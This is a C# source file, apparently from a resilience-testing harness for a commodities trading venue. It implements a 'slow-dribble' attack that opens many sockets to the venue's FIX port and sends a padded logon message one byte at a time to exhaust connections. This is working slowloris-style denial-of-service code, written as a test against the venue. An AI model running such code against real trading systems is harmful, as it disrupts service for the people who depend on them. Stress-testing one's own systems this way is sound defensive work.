using System.Diagnostics;
using System.Net.Sockets;
using System.Text;

namespace Commodities.Attack.Attacks;

/// <summary>Logons that come a byte at a time.</summary>
internal sealed class SlowDribble : IAttack
{
    private static readonly byte[] Logon = Encoding.ASCII.GetBytes($"8=FIX.4.4\u00019=4000\u000135=A\u000149=TRADER2\u000156=COMMODITIES\u000158={new string('x', 3_000)}");

    public string Name => "slow-dribble";

    public AttackOutcome Carry(VenueUnderAttack venue, double size)
    {
        const int longest = 400;
        long began = Stopwatch.GetTimestamp();
        List<Socket> sockets = [];
        int count = Math.Max(5, (int)(500 * size));
        for (int index = 0; index < count; index++)
        {
            if (Crowd.TryConnect(venue.Fix) is Socket socket)
                sockets.Add(socket);
        }

        HashSet<Socket> open = [.. sockets];
        for (int at = 0; at < longest && open.Count > 0; at++)
        {
            open.RemoveWhere(socket => !Crowd.TrySend(socket, Logon.AsSpan(at, 1)) || IsClosed(socket));
            Thread.Sleep(50);
        }

        sockets.ForEach(socket => socket.Dispose());
        return new(count, "connections", $"{sockets.Count - open.Count:#,0} closed, {count - sockets.Count} not taken", open.Count, Stopwatch.GetElapsedTime(began).TotalSeconds);
    }

    private static bool IsClosed(Socket socket) => socket.Poll(0, SelectMode.SelectRead) && socket.Available == 0;
}
